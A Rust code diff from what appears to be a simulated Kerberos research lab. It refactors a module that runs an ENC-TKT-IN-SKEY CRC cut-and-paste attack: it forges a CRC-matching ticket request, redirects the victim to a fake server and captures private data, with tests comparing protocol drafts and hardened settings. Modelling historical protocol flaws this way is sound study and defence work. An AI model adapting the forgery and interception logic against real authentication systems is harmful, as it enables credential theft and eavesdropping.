@@ -13,7 +13,7 @@
 //! trouble."
 
 use crate::env::AttackEnv;
-use crate::{Attack, AttackReport};
+use crate::Outcome;
 use kerberos::authenticator::Authenticator;
 use kerberos::client::Credential;
 use kerberos::encoding::Codec;
@@ -127,112 +127,91 @@ fn decode_priv_hardened_mirror(pt: &[u8]) -> Result<PrivPart, kerberos::KrbError
     Ok(PrivPart { data, ts_or_seq, direction, addr })
 }
 
-/// The A9 attack object.
-pub struct EncTktInSkeyCutPaste;
+/// Runs the attack against a fresh deployment under `config`.
+pub fn run(config: &ProtocolConfig, seed: u64) -> Outcome {
+    let mut env = AttackEnv::new(config, seed);
 
-impl Attack for EncTktInSkeyCutPaste {
-    fn id(&self) -> &'static str {
-        "A9"
-    }
+    // The attacker holds a perfectly ordinary TGT of its own.
+    let zach_tgt: Credential = match env.login("zach") {
+        Ok(t) => t,
+        Err(e) => return Outcome::safe(format!("attacker login failed: {e}")),
+    };
 
-    fn name(&self) -> &'static str {
-        "ENC-TKT-IN-SKEY CRC cut-and-paste"
-    }
+    // The attacker's fake-server host, ready before the capture
+    // ("everything would be in place before the ticket-capture was
+    // attempted").
+    let fake_addr = Addr::new(10, 0, 66, 6);
+    let captured = Rc::new(RefCell::new(Vec::new()));
+    let mut fake_host = Host::new("definitely-the-file-server", vec![fake_addr]);
+    fake_host.bind(
+        2001,
+        Box::new(FakeServer {
+            codec: config.codec,
+            layer: config.ticket_layer,
+            priv_layer: config.priv_layer,
+            zach_session_key: zach_tgt.session_key,
+            session_key: None,
+            client_seq: 0,
+            rng: Drbg::new(seed ^ 0xfa4e),
+            captured: Rc::clone(&captured),
+        }),
+    );
+    env.net.add_host(fake_host);
+    let fake_ep = Endpoint::new(fake_addr, 2001);
 
-    fn run(&self, config: &ProtocolConfig, seed: u64) -> AttackReport {
-        let mut env = AttackEnv::new(config, seed);
-        let report = |succeeded: bool, evidence: String| AttackReport {
-            id: "A9",
-            name: "ENC-TKT-IN-SKEY CRC cut-and-paste",
-            config: config.name,
-            succeeded,
-            evidence,
-        };
-
-        // The attacker holds a perfectly ordinary TGT of its own.
-        let zach_tgt: Credential = match env.login("zach") {
-            Ok(t) => t,
-            Err(e) => return report(false, format!("attacker login failed: {e}")),
-        };
-
-        // The attacker's fake-server host, ready before the capture
-        // ("everything would be in place before the ticket-capture was
-        // attempted").
-        let fake_addr = Addr::new(10, 0, 66, 6);
-        let captured = Rc::new(RefCell::new(Vec::new()));
-        let mut fake_host = Host::new("definitely-the-file-server", vec![fake_addr]);
-        fake_host.bind(
-            2001,
-            Box::new(FakeServer {
-                codec: config.codec,
-                layer: config.ticket_layer,
-                priv_layer: config.priv_layer,
-                zach_session_key: zach_tgt.session_key,
-                session_key: None,
-                client_seq: 0,
-                rng: Drbg::new(seed ^ 0xfa4e),
-                captured: Rc::clone(&captured),
-            }),
-        );
-        env.net.add_host(fake_host);
-        let fake_ep = Endpoint::new(fake_addr, 2001);
-
-        // The in-path tap: (1) rewrite pat's TGS request for `files`,
-        // patching the CRC; (2) redirect pat's subsequent traffic to the
-        // fake server.
-        let files_ep = env.realm.service_ep("files");
-        let kdc_port = env.realm.kdc_ep.port;
-        let codec = config.codec;
-        let zach_tgt_bytes = zach_tgt.sealed_ticket.clone();
-        env.net.set_tap(Box::new(ScriptedTap::new(move |d: &mut Datagram, _| {
-            if d.dst.port == kdc_port && d.payload.first() == Some(&(WireKind::TgsReq as u8)) {
-                if let Ok(req) = TgsReq::decode(codec, &d.payload) {
-                    if req.service.name == "files" {
-                        let original_crc = crc32(&req.checksum_body());
-                        let mut forged = req.clone();
-                        forged.options = forged.options.with(KdcOptions::ENC_TKT_IN_SKEY);
-                        forged.additional_ticket = Some(zach_tgt_bytes.clone());
-                        // Fill authorization data so the CRC matches:
-                        // encode with a 4-byte placeholder, then solve
-                        // for the bytes.
-                        forged.authz_data = vec![0; 4];
-                        let body = forged.checksum_body();
-                        let prefix = &body[..body.len() - 4];
-                        forged.authz_data = forge_suffix(prefix, original_crc).to_vec();
-                        debug_assert_eq!(crc32(&forged.checksum_body()), original_crc);
-                        d.payload = forged.encode(codec).into();
-                    }
+    // The in-path tap: (1) rewrite pat's TGS request for `files`,
+    // patching the CRC; (2) redirect pat's subsequent traffic to the
+    // fake server.
+    let files_ep = env.realm.service_ep("files");
+    let kdc_port = env.realm.kdc_ep.port;
+    let codec = config.codec;
+    let zach_tgt_bytes = zach_tgt.sealed_ticket.clone();
+    env.net.set_tap(Box::new(ScriptedTap::new(move |d: &mut Datagram, _| {
+        if d.dst.port == kdc_port && d.payload.first() == Some(&(WireKind::TgsReq as u8)) {
+            if let Ok(req) = TgsReq::decode(codec, &d.payload) {
+                if req.service.name == "files" {
+                    let original_crc = crc32(&req.checksum_body());
+                    let mut forged = req.clone();
+                    forged.options = forged.options.with(KdcOptions::ENC_TKT_IN_SKEY);
+                    forged.additional_ticket = Some(zach_tgt_bytes.clone());
+                    // Fill authorization data so the CRC matches:
+                    // encode with a 4-byte placeholder, then solve
+                    // for the bytes.
+                    forged.authz_data = vec![0; 4];
+                    let body = forged.checksum_body();
+                    let prefix = &body[..body.len() - 4];
+                    forged.authz_data = forge_suffix(prefix, original_crc).to_vec();
+                    debug_assert_eq!(crc32(&forged.checksum_body()), original_crc);
+                    d.payload = forged.encode(codec).into();
                 }
-            } else if d.dst == files_ep {
-                // Redirect the victim's service traffic to the fake.
-                d.dst = fake_ep;
             }
-            Verdict::Deliver
-        })));
-
-        // The victim goes about their business: ticket for `files`, then
-        // a "private" session.
-        let outcome = (|| -> Result<Vec<u8>, kerberos::KrbError> {
-            let tgt = env.login("pat")?;
-            let st = env.ticket("pat", &tgt, "files")?;
-            let mut conn = env.connect("pat", &st, "files")?;
-            let mut rng = env.rng.clone();
-            conn.request(&mut env.net, b"PUT diary.txt my deepest secrets", &mut rng)
-        })();
-        let _ = env.net.take_tap();
-
-        let stolen = captured.borrow();
-        match (&outcome, stolen.iter().any(|c| c.starts_with(b"PUT diary.txt"))) {
-            (Ok(_), true) => report(
-                true,
-                "victim completed 'mutual' authentication with the attacker and sent \
-                 private data; session key recovered from the mis-encrypted ticket"
-                    .into(),
-            ),
-            (_, true) => report(true, "attacker read the victim's private command".into()),
-            (Err(e), false) => report(false, format!("attack broke the exchange instead: {e}")),
-            (Ok(_), false) => report(false, "victim talked to the real server; nothing captured".into()),
+        } else if d.dst == files_ep {
+            // Redirect the victim's service traffic to the fake.
+            d.dst = fake_ep;
         }
+        Verdict::Deliver
+    })));
+
+    // The victim goes about their business: ticket for `files`, then
+    // a "private" session.
+    let outcome = (|| -> Result<Vec<u8>, kerberos::KrbError> {
+        let tgt = env.login("pat")?;
+        let st = env.ticket("pat", &tgt, "files")?;
+        let mut conn = env.connect("pat", &st, "files")?;
+        let mut rng = env.rng.clone();
+        conn.request(&mut env.net, b"PUT diary.txt my deepest secrets", &mut rng)
+    })();
+    let _ = env.net.take_tap();
+
+    let stolen = captured.borrow();
+    match (&outcome, stolen.iter().any(|c| c.starts_with(b"PUT diary.txt"))) {
+        (Ok(_), true) => Outcome::breach(
+            "victim completed 'mutual' authentication with the attacker and sent \
+             private data; session key recovered from the mis-encrypted ticket"
+        ),
+        (_, true) => Outcome::breach("attacker read the victim's private command"),
+        (Err(e), false) => Outcome::safe(format!("attack broke the exchange instead: {e}")),
+        (Ok(_), false) => Outcome::safe("victim talked to the real server; nothing captured"),
     }
 }
 
@@ -242,18 +221,18 @@ mod tests {
 
     #[test]
     fn draft3_with_crc_is_owned() {
-        let r = EncTktInSkeyCutPaste.run(&ProtocolConfig::v5_draft3(), 1);
+        let r = run(&ProtocolConfig::v5_draft3(), 1);
         assert!(r.succeeded, "{}", r.evidence);
     }
 
     #[test]
     fn v4_has_no_such_option() {
-        assert!(!EncTktInSkeyCutPaste.run(&ProtocolConfig::v4(), 1).succeeded);
+        assert!(!run(&ProtocolConfig::v4(), 1).succeeded);
     }
 
     #[test]
     fn hardened_is_safe() {
-        assert!(!EncTktInSkeyCutPaste.run(&ProtocolConfig::hardened(), 1).succeeded);
+        assert!(!run(&ProtocolConfig::hardened(), 1).succeeded);
     }
 
     #[test]
@@ -261,10 +240,10 @@ mod tests {
         // The attack is about checksums and ticket routing, not the
         // envelope — moving a preset onto the tagged wire format must
         // not change any verdict.
-        let r = EncTktInSkeyCutPaste.run(&ProtocolConfig::v5_draft3().with_wire_codec(), 1);
+        let r = run(&ProtocolConfig::v5_draft3().with_wire_codec(), 1);
         assert!(r.succeeded, "{}", r.evidence);
-        assert!(!EncTktInSkeyCutPaste.run(&ProtocolConfig::v4().with_wire_codec(), 1).succeeded);
-        assert!(!EncTktInSkeyCutPaste.run(&ProtocolConfig::hardened().with_wire_codec(), 1).succeeded);
+        assert!(!run(&ProtocolConfig::v4().with_wire_codec(), 1).succeeded);
+        assert!(!run(&ProtocolConfig::hardened().with_wire_codec(), 1).succeeded);
     }
 
     #[test]
@@ -273,7 +252,7 @@ mod tests {
         // infeasible."
         let mut config = ProtocolConfig::v5_draft3();
         config.checksum = krb_crypto::checksum::ChecksumType::Md4Des;
-        assert!(!EncTktInSkeyCutPaste.run(&config, 2).succeeded);
+        assert!(!run(&config, 2).succeeded);
     }
 
     #[test]
@@ -283,6 +262,6 @@ mod tests {
         // requirement was inadvertently omitted from Draft 3."
         let mut config = ProtocolConfig::v5_draft3();
         config.enforce_cname_match = true;
-        assert!(!EncTktInSkeyCutPaste.run(&config, 3).succeeded);
+        assert!(!run(&config, 3).succeeded);
     }
 }
